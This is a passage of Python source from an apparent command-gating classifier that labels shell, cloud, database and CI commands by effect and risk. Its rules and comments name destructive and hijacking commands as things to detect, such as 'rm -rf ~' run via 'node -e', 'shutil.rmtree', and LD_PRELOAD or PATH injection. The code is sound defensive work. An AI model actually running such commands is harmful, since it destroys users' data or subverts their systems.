    if group == "run" and sub in ("rerun", "cancel"):
        return [Effect("configure", "external", reversible=sub == "rerun", what=text,
                       objects=rest, action=f"ci-{sub}")]  # fmt: skip
    if group == "workflow":
        # a workflow goes by its file's name ("the nightly workflow" is `nightly.yml`)
        rest = tuple(re.sub(r"\.ya?ml$", "", o) for o in rest)
    if group == "workflow" and sub == "run":
        return [Effect("execute", "external", what=text, objects=rest, action="workflow-run")]
    if group == "workflow" and sub in ("enable", "disable"):
        return [Effect("configure", "external", what=text, objects=rest)]
    if group != "api":
        return None
    method = (_flag_value(args, ("-X", "--method"), ("--method",)) or "").upper()
    sends = bool(set(args) & _GH_API_FIELDS)
    path = tuple(operands[1:2])
    if method in ("", "GET") and (not sends or method == "GET"):
        return [Effect("read", "external", what=text, objects=path)]
    if method == "DELETE":
        return [Effect("delete", "external", reversible=False, what=text, objects=path)]
    return [Effect("unknown", "external", what=text, objects=path)]


#: A cloud CLI's hyphenated operation: `stop-instances`, `delete-bucket-policy`.
_OPERATION = r"[a-z]{2,}(?:-[a-z][a-z0-9]*)+"


#: Hosting platforms' CLIs, whose subcommands name what they do (`fly status`, `heroku
#: config:set`, `vercel rm`): the app is a flag's value (`--app acme-prod`).
_PAAS = frozenset(["fly", "flyctl", "vercel", "heroku", "netlify", "railway", "render"])
_PAAS_READ = frozenset(["config", "info", "inspect", "releases", "ps", "open", "whoami", "env"])
_PAAS_CONFIGURE = frozenset(
    ["deploy", "promote", "redeploy", "rollback", "scale", "restart", "set", "unset", "secrets",
     "add", "link", "alias", "certs", "domains", "regions", "suspend", "resume"]
)  # fmt: skip


def _paas(tool: str, args: Sequence[str], text: str) -> list[Effect]:
    operands = _operands(args, frozenset(["-a", "--app", "-r", "--remote", "--scope", "-t"]))
    parts = [p for o in operands[:2] for p in o.lower().split(":")]
    app = _flag_value(args, ("-a", "--app")) or ""
    # what it acts on: the app, and the operands after the subcommand (`vercel rm acme-x`)
    objects = ((app,) if app else ()) + tuple(o for o in operands[1:4] if ":" not in o or "//" in o)
    if "scale" in parts:
        # `heroku ps:scale web=2`: the process type, and how many of it
        objects = tuple(p for o in objects for p in o.split("=", 1) if p)
    if set(parts) & (_words("cloud_delete") | {"destroy"}):
        return [Effect("delete", "external", reversible=False, high_impact=True, what=text,
                       objects=objects)]  # fmt: skip
    if set(parts) & _PAAS_CONFIGURE or (tool == "vercel" and not parts):
        # a bare `vercel` deploys the folder (`--prod`: to the production site)
        deploys = bool(set(parts) & {"deploy", "promote", "redeploy"}) or not parts
        return [Effect("configure", "external", what=text, objects=objects,
                       action="deploy" if deploys else "")]  # fmt: skip
    if not parts or set(parts) & (_words("cloud_read") | _PAAS_READ):
        return [Effect("read", "external", what=text, objects=objects)]
    return [Effect("unknown", "external", what=text)]


#: Pulumi's commands that only read: the preview of a change, a stack's outputs.
_PULUMI_READ = frozenset(["preview", "whoami", "about", "version", "logs", "help"])
_PULUMI_STACK_READ = frozenset(["ls", "output", "history", "export", "graph"])


def _pulumi(operands: Sequence[str], text: str) -> Effect:
    """`pulumi preview` reads; `pulumi up` changes what the stack runs, as `terraform
    apply` does; `pulumi destroy` removes every resource of the stack."""
    first = operands[0] if operands else ""
    second = operands[1] if len(operands) > 1 else ""
    if first == "destroy":
        return Effect("delete", "external", reversible=False, high_impact=True, what=text)
    if first in ("up", "update"):
        return Effect("configure", "external", reversible=False, high_impact=True, what=text)
    if first == "refresh":
        return Effect("configure", "external", what=text)
    if (
        first in _PULUMI_READ
        or (first == "stack" and (not second or second in _PULUMI_STACK_READ))
        or (first == "config" and second in ("", "get"))
    ):
        return Effect("read", "external", what=text)
    return Effect("unknown", "external", what=text)


def _cloud(tool: str, args: Sequence[str], text: str) -> list[Effect]:
    operands = _operands(args)
    verbs = set(operands[:3])
    if tool == "terraform":
        local = _terraform_local(operands, args, text)
        if local is not None:
            return [local]
    if tool == "pulumi":
        return [_pulumi(operands, text)]
    if tool in ("docker", "podman") and operands[:2] in (["image", "prune"], ["builder", "prune"]):
        # images and build cache nothing uses: pulled or built again when needed, like a
        # project's build output ("remove the dangling images" asks for it)
        return [Effect("delete", what=text, action="rebuild")]
    if tool == "kubectl" and _replaced_pods(args):
        # `kubectl delete pod worker-5c6b7d-q9z8r`: its deployment starts a new one, the
        # usual way to restart a pod; what it served is cut off meanwhile
        return [Effect("configure", "external", reversible=False, what=text, action="restart")]
    if verbs & _words("cloud_delete"):
        return [Effect("delete", "external", reversible=False, high_impact=True, what=text)]
    if any(re.match(r"(?:list|get|describe|show)(?:-|$)", v) for v in verbs) and not any(
        re.match(r"(?:put|set|add|attach|create|delete|update|remove|detach)(?:-|$)", v)
        for v in verbs
    ):
        # `aws iam list-attached-user-policies`, `aws s3api get-bucket-acl`: reads, as are
        # `gcloud iam service-accounts list` and `kubectl get networkpolicies`
        return [Effect("read", "external", what=text)]
    if any(re.search(r"acl|polic|permission|iam|role", v) for v in verbs):
        return [Effect("grant", "external", reversible=False, high_impact=True, what=text)]
    # `aws ec2 terminate-instances`, `aws ec2 stop-instances`: the operation's first word
    operation = next((v.split("-", 1)[0] for v in operands[:3] if re.fullmatch(_OPERATION, v)), "")
    if operation in _words("cloud_delete") or operation in ("deregister", "purge", "revoke"):
        action = "terminate" if operation == "terminate" else ""
        return [
            Effect(
                "delete", "external", reversible=False, high_impact=True, what=text, action=action
            )
        ]
    if operation in ("stop", "start", "reboot", "restart"):
        return [Effect("configure", "external", what=text, action=operation)]
    if operation == "create" and tool == "aws":
        # `aws rds create-db-snapshot`: a new thing made (policies and grants are above);
        # `create-bucket --acl public-read`: made readable by anyone
        made = [Effect("create", "external", what=text)]
        if _public_acl(args):
            made.append(Effect("grant", "external", reversible=False, high_impact=True,
                               what=text, action="public"))  # fmt: skip
        return made
    if tool == "aws" and (operation == "invoke" or "invoke" in verbs):
        # `aws lambda invoke`: the function run, with whatever it does
        return [Effect("execute", "external", reversible=False, what=text)]
    powered = verbs & {"stop", "start", "reboot", "restart", "reset", "suspend", "resume"}
    if tool in ("gcloud", "az") and powered:
        # `gcloud compute instances stop test-vm`, `az vm restart`: as `aws ec2 stop-instances`
        return [Effect("configure", "external", what=text, action=sorted(powered)[0])]
    copy = verbs & {"cp", "sync", "mv"}
    if copy and tool in ("aws", "gsutil", "gcloud", "az"):
        effects = [_copy(_operands(args, _VALUE_FLAGS, dash=True), "mv" in copy, text)]
        if _public_acl(args):
            # `--acl public-read`: the copy is readable by anyone
            effects.append(
                Effect("grant", "external", reversible=False, high_impact=True, what=text)
            )
        if "sync" in copy and any(a.startswith("--delete") for a in args):
            # as `rsync --delete`: what the destination holds and the source lacks is gone
            effects.append(Effect("delete", effects[0].reach, reversible=False, what=text))
        return effects
    if tool == "terraform" and "apply" in verbs:
        return [Effect("configure", "external", reversible=False, high_impact=True, what=text)]
    if tool == "gh":
        actions = _gh_actions(args, text)
        if actions is not None:
            return actions
    if tool == "gh" and "review" in verbs and _flags(args) & {"--approve", "a"}:
        # an approval lets the change through the repository's review rule
        return [Effect("grant", "external", reversible=False, what=text, action="approve")]
    if tool == "gh" and verbs & {"comment", "review"}:
        return [Effect("send", "external", what=text)]
    if tool == "gh" and operands[:2] == ["release", "create"] and "--draft" not in args:
        # a release published: its tag, notes and files go out to everyone watching the
        # repository, as a package leaves for its registry (a draft is only kept)
        return [Effect("send", "external", reversible=False, what=text, action="release",
                       objects=tuple(operands[2:3]))]  # fmt: skip
    if tool == "gh" and "create" in verbs:  # a pull request or an issue, like `create_issue`
        # opened for others to see: the user asks for that in so many words ("open a PR",
        # "file an issue"), not by asking for a fix
        kind = {"pr": "pull-request", "issue": "file-issue"}.get(operands[0] if operands else "")
        return [Effect("create", "external", what=text, action=kind or "")]
    if tool == "gh" and verbs & {"merge", "close", "edit", "reopen"}:
        # `gh pr merge --admin`: the branch's protection (its reviews and checks) bypassed
        bypass = "merge" in verbs and "--admin" in args
        return [Effect("modify", "external", reversible="merge" not in verbs, what=text,
                       action="weaken-security" if bypass else "")]  # fmt: skip
    if tool == "gh" and verbs & {"checkout", "clone", "sync"}:
        # a pull request's branch, or a repository, fetched into this machine
        return [Effect("modify", what=text)]
    if tool == "gh" and verbs & {"checks", "diff", "browse"}:
        return [Effect("read", "external", what=text)]
    if tool == "kubectl" and operands[:1] == ["port-forward"]:
        # a local port that reaches the cluster's service: nothing there changes
        return [Effect("read", "external", what=text, objects=tuple(operands[1:2]))]
    if tool == "kubectl" and operands[:1] == ["drain"]:
        # the node's pods evicted and the node cordoned; `--delete-emptydir-data` and
        # `--force` let the pods' local data and unmanaged pods go with them
        drained = [Effect("configure", "external", what=text, objects=tuple(operands[1:2]))]
        if {"--delete-emptydir-data", "--delete-local-data", "--force"} & set(args):
            drained.append(Effect("delete", "external", reversible=False, what=text,
                                  objects=tuple(operands[1:2])))  # fmt: skip
        return drained
    if tool == "kubectl" and operands[:2] == ["rollout", "undo"]:
        # the deployment's previous revision back: a change asked for as a rollback
        return [Effect("modify", "external", what=text, action="revert")]
    if tool == "kubectl" and operands[:2] in (["rollout", "status"], ["rollout", "history"]):
        return [Effect("read", "external", what=text)]
    if tool in ("kubectl", "helm") and verbs & _words("cloud_configure"):
        return [Effect("configure", "external", what=text)]
    if tool in ("docker", "podman") and verbs & {"restart", "start", "unpause"}:
        # `docker restart web`: running again, but what it was serving is cut off, so the
        # container must be the one the user named
        return [Effect("configure", reversible=False, what=text)]
    if tool in ("docker", "podman") and verbs & {"stop", "kill", "pause"}:
        # like `systemctl stop`: what the container served is down until someone starts it
        return [Effect("configure", reversible=False, high_impact=True, what=text)]
    if tool in ("docker", "podman") and (
        operands[:1] == ["run"] or operands[:2] == ["container", "run"]
    ):
        return [_container_run(args, text)]
    if tool in ("docker", "podman") and operands[:1] == ["build"]:
        # an image built from the project's own Dockerfile, on this machine
        return [Effect("execute", what=text, routine=True)]
    if tool in ("docker", "podman") and operands[:1] == ["tag"]:
        # another name for an image on this machine: removed with `docker rmi`
        return [Effect("create", what=text)]
    if tool in ("docker", "podman") and operands[:1] == ["push"]:
        return [Effect("send", "external", reversible=False, what=text)]
    if tool in ("docker", "podman") and operands[:2] == ["compose", "down"]:
        # the project's services stopped and their containers removed, made again by `up`;
        # `-v` removes their volumes too, with the data in them
        volumes = bool(_flags(args) & {"v", "--volumes"})
        return [
            Effect(
                "delete",
                reversible=not volumes,
                high_impact=volumes,
                what=text,
                action="delete-volumes" if volumes else "",
            )
        ]
    if tool == "helm" and verbs & {"rollback"}:
        # a release's previous revision back, asked for as a rollback: on the release, the
        # revision number is how far back
        release = tuple(operands[1:2])
        return [Effect("modify", "external", what=text, action="revert", objects=release)]
    if tool == "helm" and verbs & {"install", "upgrade"}:
        return [Effect("configure", "external", what=text)]
    if tool in ("docker", "podman") and operands[:2] in (["compose", "up"], ["compose", "build"]):
        # the project's own services, started from its compose file, stopped the same way
        # (on the services it names, if any)
        action = "compose-up" if operands[1] == "up" else "compose-build"
        return [Effect("configure", what=text, action=action, objects=tuple(operands[2:8]))]
    if verbs & _words("cloud_read"):
        return [Effect("read", "local" if tool in ("docker", "podman") else "external", what=text)]
    return [Effect("unknown", "external", what=text)]


#: Cloud CLI flags that take a value (`--profile prod`): the value is not a path.
_VALUE_FLAGS = frozenset(
    ["--acl", "--profile", "--region", "--storage-class", "--exclude", "--include", "--sse",
     "--endpoint-url", "--sse-kms-key-id", "--content-type", "--cache-control", "--grants",
     "--expires", "--metadata", "--output", "--project", "--account-name", "-a", "-h", "-z"]
)  # fmt: skip


def _copy(operands: Sequence[str], moves: bool, text: str) -> Effect:
    """`aws s3 cp SRC DST`: to standard output reads, within the cloud copies, from here to
    the cloud uploads, from the cloud here downloads; a move also removes the source."""
    src, dst = (operands[-2], operands[-1]) if len(operands) >= 2 else ("", "")
    remote = re.compile(r"^[a-z][a-z0-9+.-]*://")
    if dst == "-" and not moves:
        return Effect("read", "external", what=text)
    if remote.match(dst):
        if remote.match(src):
            return Effect("create", "external", reversible=not moves, what=text)
        return Effect("send", "external", reversible=False, what=text)
    return Effect("create", "local", reversible=not moves, what=text)


_DB_QUERY_FLAGS = {
    "psql": ("-c", "--command"),
    "mysql": ("-e", "--execute"),
    "mariadb": ("-e", "--execute"),
    "sqlite3": (),
    "duckdb": ("-c",),
    "clickhouse-client": ("-q", "--query"),
}
_MONGO_READ = re.compile(
    r"\.(?:find|findOne|count|countDocuments|estimatedDocumentCount|aggregate|distinct|"
    r"stats|getIndexes|explain|getCollectionNames|getCollectionInfos|getName|getUsers|"
    r"getRoles|serverStatus|hostInfo|version|currentOp|isMaster|hello|listCollections)"
    r"\s*\(|\bshow\s+(?:dbs|databases|collections|tables|users|roles)\b|db\.stats\(",
    re.I,
)
_MONGO_DELETE = re.compile(r"\.(?:delete\w*|remove|drop\w*|findOneAndDelete)\s*\(", re.I)
_MONGO_WRITE = re.compile(r"\.(?:insert\w*|update\w*|replace\w*|save|rename\w*)\s*\(", re.I)


#: sqlite3's dot-commands that show the database and change nothing.
_SQLITE_SHOWS = frozenset(
    [".tables", ".schema", ".indexes", ".indices", ".databases", ".dump", ".fullschema",
     ".dbinfo", ".show", ".stats", ".help", ".lint", ".expert"]
)  # fmt: skip


_REDIS_VALUE_FLAGS = frozenset(
    ["-h", "-p", "-a", "-n", "-u", "-s", "-i", "-r", "-d", "--user", "--pass", "--pattern",
     "--count", "--cacert", "--cert", "--key", "--sni"]
)  # fmt: skip


def _database(tool: str, args: Sequence[str], text: str) -> list[Effect]:
    """A database client is judged by the statement it carries (`psql -c "DROP …"`)."""
    from clef_tools.gate._sql import describe_effect, sql_effects

    if tool in ("mongosh", "mongo"):
        code = " ".join(_after(args, "--eval")[:1])
        if not code:
            return [Effect("unknown", what=text)]
        if _MONGO_DELETE.search(code):
            unfiltered = bool(re.search(r"\(\s*\{\s*\}\s*\)|\.drop\w*\(", code))
            return [Effect("delete", reversible=False, high_impact=unfiltered, what=text)]
        if _MONGO_WRITE.search(code):
            return [Effect("modify", reversible=False, what=text)]
        if _MONGO_READ.search(code):
            return [Effect("read", what=text)]
        return [Effect("unknown", what=text)]
    if tool == "redis-cli":
        # `-h host`, `-p 6380`, `--pattern 'session:*'`: a flag's value is not the command
        words = _operands(args, _REDIS_VALUE_FLAGS)
        verb = words[0].lower() if words else ""
        if not verb and set(args) & {"--scan", "--bigkeys", "--memkeys", "--stat", "--latency"}:
            return [Effect("read", what=text)]  # a scan or a report of the keys
        if not verb:
            return [Effect("unknown", what=text)]
        if verb in ("flushall", "flushdb"):
            return [Effect("delete", reversible=False, high_impact=True, what=text)]
        # what it acts on is its keys, not the command's own name (`DEL sessions`)
        if verb in ("del", "unlink", "expire", "hdel", "srem", "zrem", "lpop", "rpop"):
            keys = tuple(words[1:2] if verb in ("expire", "hdel", "srem", "zrem") else words[1:])
            return [Effect("delete", reversible=False, what=text, objects=keys)]
        if verb in _words("redis_read"):
            return [Effect("read", what=text, objects=tuple(words[1:2]))]
        return [Effect("modify", reversible=False, what=text, objects=tuple(words[1:2]))]
    flags = _DB_QUERY_FLAGS.get(tool, ())
    query = _flag_value(args, flags)
    if query is None and tool in ("sqlite3", "duckdb"):
        positional = [a for a in args if not a.startswith("-")]
        query = positional[1] if len(positional) > 1 else None
    if query is None:
        return [Effect("unknown", what=text)]  # an interactive session or a script file
    if tool in ("sqlite3", "duckdb") and query.lstrip().startswith("."):
        # a dot-command: `.tables`, `.schema users` show; `.import`, `.restore` load
        dot = query.split(None, 1)[0].lower()
        if dot in _SQLITE_SHOWS:
            return [Effect("read", what=text)]
        if dot in (".import", ".restore", ".load"):
            return [Effect("modify", reversible=False, what=text)]
        return [Effect("unknown", what=text)]
    if tool == "psql" and query.lstrip().lower().startswith("\\copy"):
        return [_psql_copy(query.lstrip()[5:].strip(), text)]
    described = describe_effect(query) if tool == "psql" else None
    return list((described or sql_effects(query)).effects)


def _settings(tool: str, args: Sequence[str], text: str) -> list[Effect]:
    """A settings tool configures, unless it only lists (`crontab -l`, `iptables -L`,
    `ufw status`, `sysctl -a`, a bare `alias`, `history`); `crontab -r` removes every job,
    `history -c` the shell's history."""
    flags = _flags(args)
    listing = {
        "crontab": "l" in flags,
        "iptables": bool(flags & {"L", "S", "--list", "--list-rules"}),
        "ufw": args[:1] in (["status"], ["app"]),
        "sysctl": "w" not in flags and not any("=" in a for a in args),
        "alias": not args,
        "export": not args or args == ["-p"],
        "ulimit": all(a.startswith("-") for a in args) and "S" not in flags and "H" not in flags,
        "history": not flags & {"c", "d", "w", "a", "r", "n", "s"},
    }
    if listing.get(tool, False):
        return [Effect("read", what=text)]
    if (tool == "crontab" and "r" in flags) or (tool == "history" and flags & {"c", "d"}):
        # every job removed; the shell's history cleared (or an entry of it)
        return [Effect("delete", reversible=False, what=text)]
    return [Effect("configure", what=text)]


def _psql_copy(rest: str, text: str) -> Effect:
    """psql's `\\copy (query) TO 'file'` / `\\copy table TO 'file'` writes a local file;
    `FROM 'file'` loads one into a table."""
    from clef_tools.gate._sql import sql_effects

    inner = ""
    if rest.startswith("("):
        depth = 0
        for n, ch in enumerate(rest):
            depth += {"(": 1, ")": -1}.get(ch, 0)
            if depth == 0:
                inner, rest = rest[1:n], rest[n + 1 :]
                break
        else:
            return Effect("unknown", what=text)
    else:
        rest = rest.split(None, 1)[1] if " " in rest else ""
    direction = rest.split(None, 1)[0].lower() if rest.strip() else ""
    if direction == "from":
        return Effect("modify", reversible=False, what=text)
    if direction != "to" or (inner and not sql_effects(inner).read_only):
        return Effect("unknown", what=text)
    return Effect("create", what=text)


def _remove(tool: str, args: Sequence[str], text: str, elevated: bool) -> list[Effect]:
    flags = _flags(args)
    recursive = bool(flags & {"r", "R", "--recursive"})
    operands = _operands(args)
    broad = any(_BROAD.match(o) for o in operands)
    if tool == "rm" and operands and not broad and not elevated and all(map(_rebuilt, operands)):
        # `rm -rf node_modules dist`: what the project's tools make again can be made again
        return [Effect("delete", what=text, action="rebuild")]
    impact = broad or (recursive and elevated)
    return [Effect("delete", reversible=False, high_impact=impact, what=text)]


#: The user's cache folder, or a folder in it (`~/.cache/pip`, `~/Library/Caches/Homebrew`).
_USER_CACHE = re.compile(
    r"(?:~|\$HOME|\$\{HOME\}|/home/[\w.-]+|/Users/[\w.-]+)/(?:\.cache|Library/Caches)"
    r"(?:/[\w][\w.-]*)*/?$"
)


def _rebuilt(path: str) -> bool:
    """A path the project's own tools make again: dependencies, caches, build output."""
    name = path.rstrip("/").rsplit("/", 1)[-1]
    if ".." in path.split("/"):
        return False
    if _USER_CACHE.match(path):
        return True  # `~/.cache/pip`: what programs keep to go faster, fetched again
    if not name or path.startswith(("/", "~", "$")):
        return False
    return name in _words("rebuilt") or any(
        fnmatch.fnmatchcase(name, pattern) for pattern in _words("rebuilt_patterns")
    )


#: A variable that says where programs, libraries or startup code come from, set for
#: what runs next: `export PATH=…`, `LD_PRELOAD=/tmp/x.so cmd`, `PROMPT_COMMAND=…`.
_SEARCH_PATH_SET = re.compile(
    r"(?:^|[;&|(]\s*|\bexport\s+|\benv\s+)(?:PATH|LD_PRELOAD|LD_LIBRARY_PATH|DYLD_\w+|PYTHONPATH"
    r"|PYTHONSTARTUP|NODE_OPTIONS|NODE_PATH|PERL5LIB|RUBYLIB|BASH_ENV|ENV|PROMPT_COMMAND"
    r"|GIT_SSH_COMMAND|GIT_EXEC_PATH)=\S*"
)
_GIT_CONFIG_READS = frozenset(
    ["--list", "l", "--get", "--get-all", "--get-regexp", "--get-urlmatch", "--show-origin",
     "--show-scope", "--get-color", "--get-colorbool"]
)  # fmt: skip
_GIT_CONFIG_WRITES = frozenset(
    ["--unset", "--unset-all", "--add", "--replace-all", "--rename-section", "--remove-section",
     "e", "--edit"]
)  # fmt: skip


def _runner(tool: str, args: Sequence[str], text: str) -> list[Effect]:
    sub = next(iter(_operands(args)), "")
    if tool == "cargo" and sub == "publish":
        return [_publish(tool, _operands(_after(args, sub)), text, args)]
    if tool == "cargo" and sub == "yank":
        # a version taken back from new installs (`--undo` puts it back); the lockfiles
        # that pin it keep it
        version = _flag_value(args, ("--version", "--vers"), ("--version", "--vers"))
        return [Effect("modify", "external", what=text, objects=(version,) if version else ())]
    if tool == "cargo" and sub == "owner":
        listing = bool({"--list", "-l"} & set(args))
        return [Effect("read" if listing else "grant", "external", what=text)]
    if tool == "go" and _operands(args)[:2] in (["mod", "download"], ["mod", "verify"]):
        return [Effect("execute", what=text, routine=True)]  # the module's pinned dependencies
    pair = _operands(args)[:2]
    if (tool == "go" and (sub in ("list", "env", "version") or pair in (["mod", "graph"],
                                                                        ["mod", "why"]))) or (
        tool == "cargo" and sub in ("tree", "search", "metadata")
    ):  # fmt: skip
        return [Effect("read", what=text)]
    if tool == "go" and pair == ["mod", "tidy"]:
        # go.mod and go.sum brought in line with the imports the code has
        return [Effect("modify", what=text, routine=True)]
    if (tool, sub) in (("cargo", "add"), ("go", "get")):
        # `cargo add serde`, `go get example.com/lib@v2`: a dependency taken from a registry
        names = tuple(_package_name(o) for o in _operands(_after(args, sub)))[:8]
        return [Effect("configure", "external", what=text, objects=names, packages=bool(names))]
    if tool == "cargo" and sub in ("remove", "rm", "uninstall"):
        return [Effect("delete", what=text)]
    if tool in ("cargo", "go", "rake", "pre-commit") and sub not in _words("runner_verbs"):
        # `rake db:drop`, `go generate`: a task the tables cannot vouch for
        return [Effect("unknown", what=text)]
    if tool in _SNAPSHOT_RUNNERS and _deselects(args):
        # `pytest --deselect tests/test_auth.py`, `-k "not auth"`: a run that leaves
        # tests out passes whatever they would have caught
        return [Effect("execute", what=text, routine=True, action="weaken-tests")]
    if tool in _SNAPSHOT_RUNNERS and _SNAPSHOT_FLAGS & set(args):
        # `jest -u`, `pytest --snapshot-update`: the expected output rewritten to what the
        # code now does, so the check passes whatever changed
        return [Effect("execute", what=text, routine=True, action="update-snapshots")]
    if tool == "mypy" and "--install-types" in args:
        # the stubs it finds missing installed from PyPI, before the check runs
        return [Effect("configure", "external", what=text, action="install")]
    if _formats_in_place(tool, args):
        # a bare `black src`, `cargo fmt`: the files rewritten, which "check the
        # formatting" does not ask for and "run black" does
        return [Effect("modify", what=text, routine=True, action="format-in-place")]
    if _fixes(tool, args):
        # `ruff check --fix`, `eslint --fix`, `prettier --write`: the linter rewrites the
        # files it checks, which "run the linter" does not ask for
        return [Effect("modify", what=text, routine=True, action="autofix")]
    return [Effect("execute", what=text, routine=True)]


#: Flags by which a linter rewrites what it checks, and the linters whose own short flags
#: do (`prettier -w`, `rubocop -a`).
_FIX_FLAGS = frozenset(["--fix", "--unsafe-fixes", "--fix-only", "--write", "--autocorrect",
                        "--autocorrect-all", "--fix-dry-run=false"])  # fmt: skip
_SHORT_FIX = {"prettier": frozenset(["-w"]), "rubocop": frozenset(["-a", "-A"])}


#: Formatters that rewrite files unless told only to check, by the subcommand that formats
#: ("" for the tool itself) and the flags that make them print instead.
_FORMATS_IN_PLACE: dict[tuple[str, str], frozenset[str]] = {
    ("black", ""): frozenset(["--check", "--diff"]),
    ("isort", ""): frozenset(["--check", "--check-only", "-c", "--diff"]),
    ("ruff", "format"): frozenset(["--check", "--diff"]),
    ("cargo", "fmt"): frozenset(["--check"]),
    ("go", "fmt"): frozenset(["-n"]),
    ("dotnet", "format"): frozenset(["--verify-no-changes"]),
}


def _formats_in_place(tool: str, args: Sequence[str]) -> bool:
    sub = next(iter(_operands(args)), "")
    checks = _FORMATS_IN_PLACE.get((tool, sub), _FORMATS_IN_PLACE.get((tool, "")))
    if checks is None:
        return False
    flags = {a.split("=", 1)[0] for a in args if a.startswith("-")}
    return not flags & (checks | {"--help", "-h", "--version"})


def _fixes(tool: str, args: Sequence[str]) -> bool:
    flags = {a.split("=", 1)[0] for a in args if a.startswith("-")}
    return bool(flags & _FIX_FLAGS or flags & _SHORT_FIX.get(tool, frozenset())) or (
        tool == "cargo" and next(iter(_operands(args)), "") == "fix"
    )


#: A test runner's flags that leave tests out of the run.
_DESELECT_FLAGS = (
    "--deselect", "--ignore", "--ignore-glob", "--testPathIgnorePatterns",
    "--testPathIgnorePattern", "--skip", "-skip", "--exclude",
)  # fmt: skip


def _deselects(args: Sequence[str]) -> bool:
    for n, a in enumerate(args):
        if a.split("=", 1)[0] in _DESELECT_FLAGS:
            return True
        if a == "-k" and n + 1 < len(args) and re.search(r"\bnot\b", args[n + 1]):
            return True
        if a.startswith("-k") and len(a) > 2 and re.search(r"\bnot\b", a[2:]):
            return True
    return False


_SNAPSHOT_RUNNERS = frozenset(
    ["pytest", "jest", "vitest", "mocha", "rspec", "cargo", "go", "playwright", "cypress"]
)
_SNAPSHOT_FLAGS = frozenset(
    ["-u", "--updateSnapshot", "--update-snapshots", "--snapshot-update", "--force-regen",
     "--update-goldens", "--update", "-update", "--accept"]
)  # fmt: skip


def _interpreter(tool: str, args: Sequence[str], text: str) -> list[Effect]:
    if args[:1] in (["--version"], ["-V"], ["--help"]):
        return [Effect("read", what=text)]
    if _runs_manage_py(tool, args):
        return _django(args[1:], text)
    if tool.startswith("python") and args[:1] == ["-c"] and len(args) > 1 and reads_only(args[1]):
        # `python -c "import json; print(json.load(open('package.json'))['version'])"`
        return [Effect("read", what=text)]
    if tool.startswith("python") and args[:1] == ["-m"] and len(args) > 1:
        # `python -m pip install …`, `python -m pytest`: judged as the module's command
        module, rest = args[1], list(args[2:])
        if module in ("venv", "virtualenv"):
            return [Effect("create", what=text)]
        if module in _BY_TOOL or module in _words("routine") or module in _words("read"):
            return _classify([module, *rest], elevated=False)
    if args[:1] in (["-c"], ["-e"], ["--eval"], ["-r"], ["-p"], ["--print"]) and len(args) > 1:
        # `python -c "import shutil; shutil.rmtree(…)"`, `node -e "…execSync('rm -rf ~')"`:
        # a program the call writes itself, not one the project holds; what it does is the
        # model's to judge (a line of Python that only reads is allowed above)
        return [Effect("unknown", what=text)]
    return [Effect("execute", what=text)]


def _archive(tool: str, args: Sequence[str], text: str) -> list[Effect]:
    """`tar czf logs.tgz logs`, `zip -r site.zip site`: an archive made beside what it
    holds; `tar x`, `unzip`: files written out of it, over any of the same name; `tar t`,
    `unzip -l`: its listing read. `gzip file` replaces the file with its compressed form."""
    flags = _flags(args[:1] if tool == "tar" and args and not args[0].startswith("-") else args)
    if tool == "tar" and args and not args[0].startswith("-"):
        flags |= set(args[0])  # `tar czf`: the old form, flags without a dash
    if (tool == "tar" and flags & {"t", "--list"}) or (tool == "unzip" and flags & {"l", "Z"}):
        return [Effect("read", what=text)]
    if (tool == "tar" and flags & {"x", "--extract", "--get"}) or tool == "unzip":
        # where the files are written is what it acts on too: `-C /` writes over the system
        into = ("-C", "--directory") if tool == "tar" else ("-d",)
        dest = _flag_value(args, into, ("--directory",)) or ""
        objects = tuple(dict.fromkeys((*command_objects([tool, *args]), dest))) if dest else ()
        return [Effect("modify", what=text, objects=objects)]
    if tool in ("gzip", "gunzip", "bzip2", "bunzip2", "xz", "unxz", "zstd"):
        keeps = bool(flags & {"k", "c", "--keep", "--stdout", "l", "t", "--list", "--test"})
        return [Effect("read" if flags & {"l", "t", "--list", "--test"} else
                       "create" if keeps else "modify", what=text)]  # fmt: skip
    if tool == "tar" and "--remove-files" in args:
        # the files put in the archive are removed from where they were
        return [Effect("create", what=text), Effect("delete", what=text, action="archive-away")]
    return [Effect("create", what=text)]


def _certbot(tool: str, args: Sequence[str], text: str) -> list[Effect]:
    """`certbot certificates` lists what is installed; `renew` and `certonly` fetch new
    certificates from the authority (undone by the old ones' files); `delete` and `revoke`
    end one for good; a bare `certbot` also rewrites the web server's settings."""
    verb = next((a for a in args if not a.startswith("-")), "")
    if verb in ("certificates", "show_account"):
        return [Effect("read", "external", what=text)]
    if verb in ("delete", "revoke", "unregister"):
        return [Effect("delete", "external", reversible=False, what=text)]
    if verb in ("renew", "certonly"):
        return [Effect("modify", "external", what=text)]
    return [Effect("configure", "external", what=text)]


def _ssh_add(tool: str, args: Sequence[str], text: str) -> list[Effect]:
    """`ssh-add -l` lists the agent's keys; anything else adds a key to it or takes keys
    out (`-d`, `-D`), a change to the user's session only."""
    if _flags(args) & {"l", "L", "T"}:
        return [Effect("read", what=text)]
    return [Effect("modify", what=text)]


def _ssh_keygen(tool: str, args: Sequence[str], text: str) -> list[Effect]:
    """`ssh-keygen -t ed25519 -f key`: a key pair made; `-l`, `-F`, `-y` read one; `-R`
    takes a host out of known_hosts; `-p` changes a key's passphrase."""
    flags = _flags(args)
    if flags & {"l", "F", "y", "L", "B"}:
        return [Effect("read", what=text)]
    if flags & {"R", "p", "c"}:
        return [Effect("modify", what=text)]
    return [Effect("create", what=text)]


#: A secret store's subcommand words (HashiCorp Vault: `vault kv list secret/`, `vault
#: policy write`; 1Password: `op vault list`, `op item delete`). Printing a secret's value
#: is a read here: whether the user asked to see one is the stakes' question.
_STORE_READS = frozenset(
    ["list", "get", "read", "status", "lookup", "capabilities", "version", "whoami", "show",
     "template", "inspect", "metadata"]
)  # fmt: skip
_STORE_DELETES = frozenset(["delete", "destroy", "revoke", "disable", "remove", "archive"])
_STORE_GRANTS = frozenset(["grant", "provision", "confirm", "invite"])
_STORE_CHANGES = frozenset(
    ["put", "write", "patch", "edit", "set", "enable", "tune", "move", "rollback", "undelete",
     "import", "rotate", "renew", "seal", "unseal", "step-down", "create", "add", "restore"]
)  # fmt: skip
_STORE_VALUE_FLAGS = frozenset(
    ["--vault", "--account", "--fields", "--format", "--field", "-field", "-format", "-mount",
     "--mount", "-address", "-namespace", "--tags", "--categories", "--category", "--title",
     "--expires-in", "--emails"]
)  # fmt: skip


def _secret_store(tool: str, args: Sequence[str], text: str) -> list[Effect]:
    """Vault's and 1Password's CLIs by their subcommand: a policy written, a token made or a
    vault opened to a person grants access; a secret put, patched or rolled back changes
